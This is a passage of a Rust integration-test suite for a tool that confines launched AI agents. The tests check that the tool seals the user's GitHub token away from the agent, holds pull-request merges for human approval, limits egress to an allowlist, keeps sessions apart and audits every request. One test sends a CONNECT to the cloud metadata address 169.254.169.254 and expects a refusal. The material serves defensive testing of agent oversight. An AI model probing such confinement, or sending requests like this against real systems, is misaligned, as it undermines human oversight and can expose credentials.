/// bundled spec: `aileron auth import gh` takes the user's token, a launched agent's `gh` holds only
/// the placeholder and reaches github.com (a fake GitHub the daemon dials at a loopback address,
/// `AILERON_CONNECT_TO`) with the user's token: `gh issue create` goes at once; `gh pr merge`
/// (GraphQL `mergePullRequest`) waits for the user — approved once (merged), denied once, and
/// left undecided once (the hold runs out and gh prints where to approve). The fake sees the
/// token on every request and one merge; nothing the agent could read holds the token.
#[test]
fn a_launched_agents_gh_creates_an_issue_and_merges_only_what_the_user_approves() {
    const TOKEN: &str = "ghp_usersOwnTokenOnlyAileronHolds000000001";
    let rig = LaunchRig::new();
    let log = rig.temp.path().join("github.log");
    let _fake = serve_public_names(
        &rig,
        Path::new("python3"),
        "fake_github.py",
        &[TOKEN.as_ref(), log.as_os_str()],
        &["api.github.com", "github.com", "uploads.github.com"],
    );
    let imported = rig.run_in(&rig.workspace(), &["auth", "import", "gh", "--yes"], &[("GH_TOKEN", TOKEN.as_ref())]);
    assert!(imported.status.success(), "{}", text(&imported));
    assert!(!text(&imported).contains(TOKEN), "{}", text(&imported));

    agent_script(&rig, "gh_clients.py");
    let report_path = rig.workspace().join("gh-report.json");
    let done = std::sync::atomic::AtomicBool::new(false);
    let decided = std::thread::scope(|scope| {
        let decider = scope.spawn(|| {
            let mut decided: Vec<(String, &str)> = Vec::new();
            while !done.load(std::sync::atomic::Ordering::Acquire) {
                let listed = rig.run(&["approval", "list", "--json"], &[]);
                let listed: Value = serde_json::from_slice(&listed.stdout).unwrap_or(Value::Null);
                for item in listed["items"].as_array().cloned().unwrap_or_default() {
                    let id = item["id"].as_str().unwrap().to_string();
                    if decided.iter().any(|(seen, _)| seen == &id) {
                        continue;
                    }
                    // The first merge is approved, the second denied, the third left to wait.
                    let verdict = ["approve", "deny"].get(decided.len()).copied().unwrap_or("leave");
                    let outcome = match verdict {
                        "approve" => rig.run(&["approval", "approve", &id], &[]),
                        "deny" => rig.run(&["approval", "deny", &id, "--reason", "not today"], &[]),
                        _ => rig.run(&["approval", "list"], &[]),
                    };
                    assert!(outcome.status.success(), "{}", text(&outcome));
                    decided.push((id, verdict));
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            decided
        });
        let env: [(&str, &std::ffi::OsStr); 2] =
            [("ATTACK_REPORT", report_path.as_os_str()), ("GH_TOKEN", TOKEN.as_ref())];
        let output = rig.run_with_path(&["launch", "claude", "--approval-hold", "5"], &env, Path::new("/usr/bin"));
        done.store(true, std::sync::atomic::Ordering::Release);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output));
        decider.join().unwrap()
    });
    let report_text = std::fs::read_to_string(&report_path).unwrap();
    let report: Value = serde_json::from_str(&report_text).unwrap();
    let log = std::fs::read_to_string(&log).unwrap_or_default();
    let outcome = |name: &str| {
        let entry = &report[name];
        (entry["code"].as_i64().unwrap_or(-1), format!("{}{}", entry["stdout"], entry["stderr"]))
    };

    assert_eq!(report["GH_TOKEN"], "aileron-sealed", "{report:#}");
    let (code, shown) = outcome("issue");
    assert_eq!(code, 0, "{shown}\n{log}");
    assert!(shown.contains("https://github.com/acme/app/issues/1"), "{shown}");
    let (code, shown) = outcome("merge_approved");
    assert_eq!(code, 0, "{shown}\n{log}\n{decided:?}");
    let (code, shown) = outcome("merge_denied");
    assert_ne!(code, 0, "{shown}");
    assert!(shown.contains("denied"), "gh shows the refusal: {shown}");
    let (code, shown) = outcome("merge_timed_out");
    assert_ne!(code, 0, "{shown}");
    assert!(shown.contains("waits for the user's approval at http"), "gh shows where to approve: {shown}");
    assert_eq!(decided.iter().map(|(_, verdict)| *verdict).collect::<Vec<_>>(), ["approve", "deny", "leave"]);
    assert!(!report_text.contains(TOKEN), "the agent saw the token: {report_text}");

    let requests: Vec<Value> = log.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(requests.iter().all(|request| request["authorized"] == true), "every request carried the token: {log}");
    let merges = requests.iter().filter(|request| request["operation"] == "PullRequestMerge").count();
    assert_eq!(merges, 1, "only the approved merge reached GitHub: {log}");
    assert!(requests.iter().any(|request| request["operation"] == "IssueCreate"), "{log}");

    assert_audited(
        &rig,
        "github://aileron/github-cli",
        TOKEN,
        &[
            ("connector.proxy.proxied", "graphql", ""),
            ("connector.proxy.proxied", "merge_pull_request_graphql", ""),
            ("connector.proxy.rejected", "merge_pull_request_graphql", "approval_denied"),
            ("connector.proxy.rejected", "merge_pull_request_graphql", "approval_pending"),
        ],
    );
}

/// The audit log holds no `secret`, and each `(event type, operation, reject reason)` of
/// `expected` among the records naming the connector `fqn`.
fn assert_audited(rig: &LaunchRig, fqn: &str, secret: &str, expected: &[(&str, &str, &str)]) {
    let listed = rig.run(&["audit", "list", "--json", "--limit", "1000"], &[]);
    let all = String::from_utf8_lossy(&listed.stdout).to_string();
    assert!(!all.contains(secret), "the secret reached the audit log");
    let listed: Value = serde_json::from_str(&all).unwrap();
    let rows: Vec<(String, String, String)> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["payload"]["aileron.connector.fqn"] == fqn)
        .map(|r| {
            let field = |key: &str| r["payload"][key].as_str().unwrap_or_default().to_string();
            let event = r["event_type"].as_str().unwrap().to_string();
            (event, field("aileron.connector.operation"), field("aileron.connector.reject_reason"))
        })
        .collect();
    for (event, operation, reason) in expected {
        let expected = (event.to_string(), operation.to_string(), reason.to_string());
        assert!(rows.contains(&expected), "{expected:?} not in {rows:#?}");
    }
}

/// Two sessions at once, both told `HTTPS_PROXY=http://127.0.0.1:3128`: each agent's proxy is its
/// own (the listener is the session: each request recorded under the session that made it), its
/// CA its own, the other session's processes and listeners out of sight, and one session's end
/// leaves the other's network working.
#[test]
fn two_sessions_at_once_keep_their_networks_their_records_and_their_cas_apart() {
    let rig = LaunchRig::new();
    let (upstream, seen) = crate::gateway::tls_upstream();
    let roots = rig.temp.path().join("daemon-roots.pem");
    std::fs::write(&roots, crate::gateway::TEST_UPSTREAM_CERT).unwrap();
    let started = rig.run(&["daemon", "start"], &[("SSL_CERT_FILE", &roots)]);
    assert!(started.status.success(), "{}", text(&started));
    let daemon_port: u16 = rig.daemon().unwrap()["url"].as_str().unwrap().rsplit(':').next().unwrap().parse().unwrap();
    agent_script(&rig, "two_sessions.py");
    let shared = rig.workspace().join("markers");
    std::fs::create_dir_all(&shared).unwrap();
    let upstream = format!("localhost:{}", upstream.port());

    let launch = |role: &str| {
        let report = rig.workspace().join(format!("{role}.json"));
        let env: [(&str, &std::ffi::OsStr); 4] = [
            ("ROLE", role.as_ref()),
            ("SHARED_DIR", shared.as_os_str()),
            ("UPSTREAM", upstream.as_ref()),
            ("ATTACK_REPORT", report.as_os_str()),
        ];
        let output =
            rig.run_with_path(&["launch", "claude", "--allow-private", &upstream], &env, Path::new("/usr/bin"));
        assert_eq!(output.status.code(), Some(0), "{role}: {}", text(&output));
        serde_json::from_str::<Value>(&std::fs::read_to_string(&report).unwrap()).unwrap()
    };
    let (first, second) = std::thread::scope(|scope| {
        let second = scope.spawn(|| launch("second"));
        let first = scope.spawn(|| launch("first"));
        (first.join().unwrap(), second.join().unwrap())
    });

    assert_eq!(first["proxy"], second["proxy"], "both agents are told the same proxy URL");
    for (name, fetched) in [("first", &first["request"]), ("before", &second["before"]), ("after", &second["after"])] {
        assert_eq!(fetched["stdout"], r#"{"via":"tls"}"#, "{name}: {first:#} {second:#}");
    }
    assert_ne!(first["session_ca"], second["session_ca"], "each session has a CA of its own");
    assert_eq!(first["other_session_seen"], false, "{first:#}");
    let mut own_ports = vec![daemon_port, 3128];
    own_ports.sort();
    assert_eq!(first["listening_ports"], json!(own_ports), "{first:#}");
    assert_eq!(seen.lock().unwrap().len(), 3);

    let listed = rig.run(&["audit", "list", "--json", "--event-type", "sandbox.proxy.passthrough"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let session_of = |path: &str| -> String {
        let records: Vec<&Value> = listed["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["payload"]["aileron.proxy.upstream.path"] == path)
            .collect();
        assert_eq!(records.len(), 1, "{path}: {listed:#}");
        assert_eq!(records[0]["payload"]["aileron.session.id"], records[0]["session_id"], "{path}");
        records[0]["session_id"].as_str().unwrap().to_string()
    };
    let first_session = session_of("/first");
    assert_eq!(session_of("/second-before"), session_of("/second-after"));
    assert_ne!(first_session, session_of("/second-before"), "each request is recorded under its own session");
}

/// `egress.toml` with `policy = "allowlist"`: a host it does not list is refused before anything
/// is resolved (`egress_policy_denied`), a listed one goes on to resolution; a file that does not
/// parse stops the launch with its line and a hint, and the agent never runs.
#[test]
fn an_allowlist_egress_policy_refuses_unlisted_hosts_and_a_bad_file_stops_the_launch() {
    let rig = LaunchRig::new();
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    let policy = rig.aileron_home().join("egress.toml");
    std::fs::write(&policy, "policy = \"allowlist\"\nallow = [\"*.example.org\"]\n").unwrap();
    let script = format!(
        "#!/bin/sh\nfor url in https://www.example.org/ https://example.com/; do\n  curl -s -o /dev/null -w \"$url %{{http_connect}}\\n\" \"$url\" || true\ndone > '{}'\n",
        rig.report().display()
    );
    claude_runs(&rig, script);
    let output = rig.run(&["launch", "claude"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report = std::fs::read_to_string(rig.report()).unwrap();
    // Listed: past the policy, then the name does not resolve here (502); not listed: 403.
    assert!(report.contains("https://example.com/ 403"), "{report}");
    assert!(!report.contains("https://www.example.org/ 403"), "{report}");
    let listed = rig.run(&["audit", "list", "--json", "--event-type", "sandbox.proxy.blocked"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let blocked = listed["items"].as_array().unwrap();
    assert!(
        blocked.iter().any(|r| r["payload"]["aileron.proxy.upstream.host"] == "example.com:443"
            && r["payload"]["aileron.proxy.reject_reason"] == "egress_policy_denied"),
        "{blocked:#?}"
    );
    assert!(blocked.iter().all(|r| r["payload"]["aileron.proxy.upstream.host"] != "www.example.org:443"));

    std::fs::write(&policy, "policy = \"allowlist\"\nallow = [\"https://x.example/\"]\n").unwrap();
    std::fs::remove_file(rig.report()).unwrap();
    let output = rig.run(&["launch", "claude"], &[]);
    assert_ne!(output.status.code(), Some(0), "{}", text(&output));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("egress.toml:2: allow[0]") && stderr.contains("hint:"), "{stderr}");
    assert!(!rig.report().exists(), "the agent ran without its network");
}

/// The console shows each session's network: the agents page counts its proxied requests and
/// refusals and names the hosts it reached; the activity page lists each request as method, host
/// and path. The records are the egress proxy's own, made by real CONNECTs to a session proxy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_each_sessions_network_records() {
    use aileron::dataplane::agent_egress::{EgressSession, SessionCa};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let harness = Harness::new();
    let started = harness
        .request(
            "POST",
            "/v1/sessions",
            Some(json!({"agent": "claude", "confinement": "namespaces", "network": "enforced"})),
        )
        .await;
    let session = started.body["session_id"].as_str().unwrap().to_string();
    let upstream = crate::fake_github::FakeGithub::start().await.unwrap();
    let allowed = upstream.host_port();
    let proxy = Arc::new(EgressSession::new(
        harness.state.services.audit.clone(),
        session.clone(),
        [allowed.clone()].into(),
        SessionCa::new(&session).unwrap(),
        Default::default(),
    ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (closed, closing) = tokio::sync::oneshot::channel::<()>();
    let serving = tokio::spawn(proxy.serve(listener, async move {
        let _ = closing.await;
    }));
    let exchange = |request: String| async move {
        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer).await;
        String::from_utf8_lossy(&answer).to_string()
    };
    let tunnelled = exchange(format!(
        "CONNECT {allowed} HTTP/1.1\r\n\r\nGET /status/200?token=QUERY-SECRET HTTP/1.1\r\nHost: {allowed}\r\nConnection: close\r\n\r\n"
    ))
    .await;
    assert!(tunnelled.contains("HTTP/1.1 200 OK"), "{tunnelled}");
    let refused = exchange("CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n".to_string()).await;
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    closed.send(()).unwrap();
    serving.await.unwrap();

    let cookie = harness.console_cookie().await;
    let page = |path: String| {
        let cookie = cookie.clone();
        let harness = &harness;
        async move {
            let request = Request::builder()
                .uri(path)
                .header("host", format!("127.0.0.1:{}", crate::support::PORT))
                .header("cookie", &cookie)
                .header("x-aileron-fragment", "1");
            harness.send(request, None).await.body.as_str().unwrap().to_string()
        }
    };
    let agents = page("/agents".to_string()).await;
    let row = agents.split(&format!("id=\"session-{session}\"")).nth(1).unwrap().split("</tr>").next().unwrap();
    assert!(row.contains("1 requests") && row.contains("1 refused") && row.contains(&allowed), "{row}");
    let activity = page(format!("/activity?session={session}&family=sandbox.proxy")).await;
    assert!(activity.contains(&format!("GET {allowed}/status/200")), "{activity}");
    assert!(activity.contains("private_destination"), "{activity}");
    assert!(!activity.contains("QUERY-SECRET") && !agents.contains("QUERY-SECRET"));
}

/// The console's card for a request held at an agent's proxy says what it is and what it will
/// send — method, host, path, the body's hash — and never that an action is missing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_a_held_request_as_the_request_it_is() {
    use aileron_core::approval::{ApprovalEntry, HttpRequestApproval};
    let harness = Harness::new();
    let connector = aileron_core::Fqn::parse("github://aileron/github-cli").unwrap();
    let requested_at = aileron::stores::approvals::now();
    let entry = ApprovalEntry::http_request(HttpRequestApproval {
        id: aileron::stores::approvals::mint_id(&requested_at),
        connector: &connector,
        operation: "merge_pull_request",
        method: "PUT",
        host: "api.github.com:443",
        target: "/repos/acme/app/pulls/7/merge",
        body: br#"{"merge_method":"squash"}"#,
        requested_at,
        session_id: "ses-0123456789abcdef",
        unconfined: false,
    });
    harness.state.services.approvals.register(entry.clone()).unwrap();
    let cookie = harness.console_cookie().await;
    let request = Request::builder()
        .uri("/approvals")
        .header("host", format!("127.0.0.1:{}", crate::support::PORT))
        .header("cookie", &cookie)
        .header("x-aileron-fragment", "1");
    let page = harness.send(request, None).await.body.as_str().unwrap().to_string();
    let card =
        page.split(&format!("id=\"card-{}\"", entry.id)).nth(1).expect("the card").split("</section>").next().unwrap();
    assert!(card.contains("github://aileron/github-cli#merge_pull_request"), "{card}");
    assert!(card.contains("PUT api.github.com:443/repos/acme/app/pulls/7/merge"), "{card}");
    assert!(
        card.contains("held at its network proxy")
            && card.contains("with your credential for github://aileron/github-cli"),
        "{card}"
    );
    assert!(card.contains("merge_method") && card.contains("body_sha256"), "the body and its hash: {card}");
    assert!(!card.contains("no longer installed"), "{card}");
}

/// A real git smart-HTTP server over TLS (`git http-backend` behind Python's HTTP server,
/// `tests/launch/git_https_server.py`) serving one repository, `repo.git`, with one commit whose
/// README says "hello from a real git server". Its certificate is the gateway tests' upstream's.
struct GitServer {
    port: u16,
    child: std::process::Child,
}

impl GitServer {
    fn start(dir: &Path) -> GitServer {
        GitServer::start_with(dir, None)
    }

    /// A server that takes pushes only with exactly `push_authorization` as `Authorization`.
    fn start_with(dir: &Path, push_authorization: Option<&str>) -> GitServer {
        let root = dir.join("git-server");
        let source = dir.join("git-source");
        std::fs::create_dir_all(&source).unwrap();
        let git = |args: &[&str], cwd: &Path| {
            let output = Command::new("git")
                .args(["-c", "user.email=test@aileron", "-c", "user.name=test", "-c", "init.defaultBranch=main"])
                .args(args)
                .current_dir(cwd)
                .output()
                .unwrap();
            assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
        };
        git(&["init", "-q", "--bare", root.join("repo.git").to_str().unwrap()], dir);
        git(&["init", "-q"], &source);
        std::fs::write(source.join("README"), "hello from a real git server\n").unwrap();
        git(&["add", "README"], &source);
        git(&["commit", "-q", "-m", "first"], &source);
        git(&["push", "-q", root.join("repo.git").to_str().unwrap(), "HEAD:main"], &source);
        let (cert, key) = (dir.join("git-server-cert.pem"), dir.join("git-server-key.pem"));
        std::fs::write(&cert, crate::gateway::TEST_UPSTREAM_CERT).unwrap();
        std::fs::write(&key, crate::gateway::TEST_UPSTREAM_KEY).unwrap();
        let port_file = dir.join("git-server-port");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/launch/git_https_server.py");
        let mut command = Command::new("python3");
        command.arg(script).args([&cert, &key, &root, &port_file]).stderr(std::process::Stdio::null());
        if let Some(authorization) = push_authorization {
            command.env("GIT_PUSH_AUTHORIZATION", authorization);
        }
        let child = command.spawn().unwrap();
        for _ in 0..100 {
            if let Ok(port) = std::fs::read_to_string(&port_file) {
                return GitServer { port: port.trim().parse().unwrap(), child };
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        panic!("the git server did not start");
    }
}

impl Drop for GitServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A WebSocket through a launched agent's proxy: the upgrade request is read, forwarded and
/// recorded (status 101), and once both sides switched, frames are relayed byte for byte in both
/// directions.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_websocket_goes_through_the_agents_proxy_byte_for_byte() {
    use aileron::dataplane::agent_egress::{EgressSession, SessionCa};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let harness = Harness::new();
    let answer = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
        Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n";
    let (upstream, head) = crate::gateway::upgrade_upstream(answer).await;
    let destination = upstream.to_string();
    let proxy = Arc::new(EgressSession::new(
        harness.state.services.audit.clone(),
        "s-ws".into(),
        [destination.clone()].into(),
        SessionCa::new("s-ws").unwrap(),
        Default::default(),
    ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(proxy.serve(listener, std::future::pending()));

    let mut socket = tokio::net::TcpStream::connect(address).await.unwrap();
    socket.write_all(format!("CONNECT {destination} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
    let connected = crate::gateway::read_head(&mut socket).await;
    assert!(connected.starts_with("HTTP/1.1 200"), "{connected}");
    socket.write_all(crate::gateway::WEBSOCKET_REQUEST.replace("HOST", &destination).as_bytes()).await.unwrap();
    let switched = crate::gateway::read_head(&mut socket).await.to_ascii_lowercase();
    assert!(switched.starts_with("http/1.1 101") && switched.contains("upgrade: websocket"), "{switched}");
    assert!(head.await.unwrap().to_ascii_lowercase().contains("sec-websocket-key: dghlihnhbxbszsbub25jzq=="));
    for message in [&b"\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58"[..], &[0u8, 255, 13, 10, 13, 10, 7][..]] {
        socket.write_all(message).await.unwrap();
        let mut expected = b"up:".to_vec();
        expected.extend_from_slice(message);
        let mut received = vec![0u8; expected.len()];
        tokio::time::timeout(std::time::Duration::from_secs(10), socket.read_exact(&mut received))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(received, expected);
    }
    harness.state.services.audit.flush().await;
    let records = harness.audit().await;
    let upgrade = records
        .iter()
        .find(|r| r["event_type"] == "sandbox.proxy.passthrough")
        .unwrap_or_else(|| panic!("{records:#?}"));
    assert_eq!(upgrade["payload"]["aileron.proxy.upstream.status"], 101, "{upgrade}");
    assert_eq!(upgrade["payload"]["aileron.proxy.upstream.path"], "/v1/responses", "{upgrade}");
}

/// A tool run once per command opens a tunnel each time: the session's next tunnel to the same
/// destination goes out on the connection the last one left open, without looking the
/// destination up again (one upstream connection for two tunnels, each request recorded). A
/// connection the upstream closed is not used again: the next request, in the same tunnel or the
/// next, goes out on a new one. Another session never uses this session's connections.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sessions_tunnels_to_one_destination_reuse_the_upstream_connection() {
    use aileron::dataplane::agent_egress::{EgressSession, SessionCa};
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
    let harness = Harness::new();
    // A keep-alive upstream answering each request with the number of its connection and the
    // path; after `/bye` it closes the connection without saying so first.
    let upstream = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let destination = upstream.local_addr().unwrap().to_string();
    let (accepted, hung_up) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let (counting, counting_hang_ups) = (accepted.clone(), hung_up.clone());
    tokio::spawn(async move {
        while let Ok((stream, _)) = upstream.accept().await {
            let connection = counting.fetch_add(1, Ordering::SeqCst) + 1;
            let hung_up = counting_hang_ups.clone();
            tokio::spawn(async move {
                let mut stream = tokio::io::BufReader::new(stream);
                loop {
                    let mut line = String::new();
                    if stream.read_line(&mut line).await.unwrap_or(0) == 0 {
                        // The proxy closed this connection.
                        hung_up.fetch_add(1, Ordering::SeqCst);
                        return;
                    }
                    let path = line.split(' ').nth(1).unwrap_or_default().to_string();
                    loop {
                        let mut header = String::new();
                        if stream.read_line(&mut header).await.unwrap_or(0) == 0 {
                            return;
                        }
                        if header == "\r\n" {
                            break;
                        }
                    }
                    let body = format!("{connection} {path}");
                    let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{body}", body.len());
                    stream.get_mut().write_all(answer.as_bytes()).await.unwrap();
                    if path == "/bye" {
                        return;
                    }
                }
            });
        }
    });
    let session = |id: &str| {
        EgressSession::new(
            harness.state.services.audit.clone(),
            id.into(),
            [destination.clone()].into(),
            SessionCa::new(id).unwrap(),
            Default::default(),
        )
    };
    let serve = |session: Arc<EgressSession>| async move {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(session.serve(listener, std::future::pending()));
        address
    };
    let reusing = Arc::new(session("s-reuse"));
    let (first, second) = (serve(reusing.clone()).await, serve(Arc::new(session("s-other"))).await);
    // A tunnel through `proxy` sending `paths` in turn on one connection; the bodies answered.
    let tunnel = |proxy: std::net::SocketAddr, paths: &'static [&'static str]| {
        let destination = destination.clone();
        async move {
            let mut socket = tokio::net::TcpStream::connect(proxy).await.unwrap();
            socket.write_all(format!("CONNECT {destination} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
            let connected = crate::gateway::read_head(&mut socket).await;
            assert!(connected.starts_with("HTTP/1.1 200"), "{connected}");
            let (mut sender, connection) =
                hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(socket)).await.unwrap();
            tokio::spawn(connection);
            let mut bodies = Vec::new();
            for path in paths {
                // The upstream's close reaches the proxy before the next request does.
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
                let request = hyper::Request::get(*path)
                    .header("host", &destination)
                    .body(http_body_util::Empty::<hyper::body::Bytes>::new())
                    .unwrap();
                let response = sender.send_request(request).await.unwrap();
                assert_eq!(response.status(), 200, "{path}");
                let body = http_body_util::BodyExt::collect(response.into_body()).await.unwrap().to_bytes();
                bodies.push(String::from_utf8(body.to_vec()).unwrap());
            }
            drop(sender);
            // The tunnel has ended at the proxy (and its connection is kept) by the next one.
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
            bodies
        }
    };

    assert_eq!(tunnel(first, &["/one"]).await, ["1 /one"]);
    assert_eq!(tunnel(first, &["/two", "/bye", "/after"]).await, ["1 /two", "1 /bye", "2 /after"]);
    assert_eq!(tunnel(first, &["/three"]).await, ["2 /three"], "the connection of the tunnel before");
    assert_eq!(tunnel(second, &["/four"]).await, ["3 /four"], "another session's connection is its own");
    assert_eq!(accepted.load(Ordering::SeqCst), 3);
    assert_eq!(reusing.lookups(), 1, "a CONNECT a kept connection serves looks nothing up");

    harness.state.services.audit.flush().await;
    let records = harness.audit().await;
    let mut paths: Vec<(String, String)> = records
        .iter()
        .filter(|r| r["event_type"] == "sandbox.proxy.passthrough")
        .map(|r| {
            let payload = &r["payload"];
            assert_eq!(payload["aileron.proxy.upstream.status"], 200, "{r}");
            (r["session_id"].as_str().unwrap().to_string(), payload["aileron.proxy.upstream.path"].to_string())
        })
        .collect();
    paths.sort();
    let expected: Vec<(String, String)> = [
        ("s-other", "/four"),
        ("s-reuse", "/after"),
        ("s-reuse", "/bye"),
        ("s-reuse", "/one"),
        ("s-reuse", "/three"),
        ("s-reuse", "/two"),
    ]
    .iter()
    .map(|(session, path)| (session.to_string(), format!("\"{path}\"")))
    .collect();
    assert_eq!(paths, expected, "every request through a kept connection recorded: {records:#?}");

    // A kept connection left unused is closed by the proxy, with no further tunnel to notice it.
    let brief = std::time::Duration::from_millis(300);
    let brief = serve(Arc::new(session("s-brief").with_kept_for(brief))).await;
    let hung_up_before = hung_up.load(Ordering::SeqCst);
    assert_eq!(tunnel(brief, &["/five"]).await, ["4 /five"]);
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    assert_eq!(hung_up.load(Ordering::SeqCst), hung_up_before + 1, "the unused connection was closed");
}

/// An h2 upstream connection is shared by a session's tunnels whose clients speak h2: two tunnels
/// open at once and a third after one ended all go out on the one connection, TLS verified
/// against the roots the session was given, each request answered over h2 on both sides.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sessions_h2_tunnels_share_one_upstream_connection() {
    use aileron::dataplane::agent_egress::{EgressSession, SessionCa};
    use rustls::pki_types::pem::PemObject as _;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::AsyncWriteExt;
    let harness = Harness::new();
    let accepted = Arc::new(AtomicUsize::new(0));
    let destination = h2_tls_upstream(accepted.clone()).await.to_string();
    let roots = |pem: &str| {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(rustls::pki_types::CertificateDer::from_pem_slice(pem.as_bytes()).unwrap()).unwrap();
        rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth()
    };
    let ca = SessionCa::new("s-h2").unwrap();
    let mut client_tls = roots(ca.certificate_pem());
    client_tls.alpn_protocols = vec![b"h2".to_vec()];
    let client_tls = tokio_rustls::TlsConnector::from(Arc::new(client_tls));
    let session = EgressSession::new(
        harness.state.services.audit.clone(),
        "s-h2".into(),
        [destination.clone()].into(),
        ca,
        Default::default(),
    )
    .with_upstream_tls(roots(crate::gateway::TEST_UPSTREAM_CERT));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = listener.local_addr().unwrap();
    tokio::spawn(Arc::new(session).serve(listener, std::future::pending()));
    // An h2 tunnel: its sender, once the proxy's certificate was verified and h2 agreed.
    let tunnel = || {
        let (destination, client_tls) = (destination.clone(), client_tls.clone());
        async move {
            let mut socket = tokio::net::TcpStream::connect(proxy).await.unwrap();
            socket.write_all(format!("CONNECT {destination} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
            let connected = crate::gateway::read_head(&mut socket).await;
            assert!(connected.starts_with("HTTP/1.1 200"), "{connected}");
            let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
            let tls = client_tls.connect(name, socket).await.unwrap();
            assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
            let (sender, connection) = hyper::client::conn::http2::handshake(
                hyper_util::rt::TokioExecutor::new(),
                hyper_util::rt::TokioIo::new(tls),
            )
            .await
            .unwrap();
            tokio::spawn(connection);
            sender
        }
    };
    let get = |mut sender: hyper::client::conn::http2::SendRequest<http_body_util::Empty<hyper::body::Bytes>>,
               path: &'static str| {
        let uri = format!("https://{destination}{path}");
        async move {
            let request = hyper::Request::get(uri).body(http_body_util::Empty::new()).unwrap();
            let response = sender.send_request(request).await.unwrap();
            assert_eq!(response.status(), 200, "{path}");
            let body = http_body_util::BodyExt::collect(response.into_body()).await.unwrap().to_bytes();
            String::from_utf8(body.to_vec()).unwrap()
        }
    };

    // The first tunnel's upstream connection is made with its first request's tunnel; the second
    // tunnel, opened while the first is still open, shares it.
    let first = tunnel().await;
    assert_eq!(get(first.clone(), "/a").await, "HTTP/2.0 /a");
    let second = tunnel().await;
    assert_eq!(get(second.clone(), "/b").await, "HTTP/2.0 /b");
    assert_eq!(get(first, "/c").await, "HTTP/2.0 /c");
    drop(second);
    assert_eq!(get(tunnel().await, "/d").await, "HTTP/2.0 /d");
    assert_eq!(accepted.load(Ordering::SeqCst), 1, "one upstream connection for the session's three tunnels");

    harness.state.services.audit.flush().await;
    let mut paths: Vec<String> = harness
        .audit()
        .await
        .iter()
        .filter(|r| r["event_type"] == "sandbox.proxy.passthrough")
        .map(|r| r["payload"]["aileron.proxy.upstream.path"].as_str().unwrap().to_string())
        .collect();
    paths.sort();
    assert_eq!(paths, ["/a", "/b", "/c", "/d"]);
}

/// A tunnel whose client is slow to speak is closed once the session's first-byte timeout has
/// passed: one that sends nothing after its CONNECT, and one that trickles a request head. A
/// launched agent cannot hold the daemon's descriptors with stalled tunnels.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnels_slow_to_send_a_byte_or_a_head_are_closed() {
    use aileron::dataplane::agent_egress::{EgressSession, SessionCa};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let harness = Harness::new();
    // An upstream that accepts and never answers.
    let upstream = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let destination = upstream.local_addr().unwrap().to_string();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((stream, _)) = upstream.accept().await {
            held.push(stream);
        }
    });
    let timeout = std::time::Duration::from_millis(800);
    let session = EgressSession::new(
        harness.state.services.audit.clone(),
        "s-slow".into(),
        [destination.clone()].into(),
        SessionCa::new("s-slow").unwrap(),
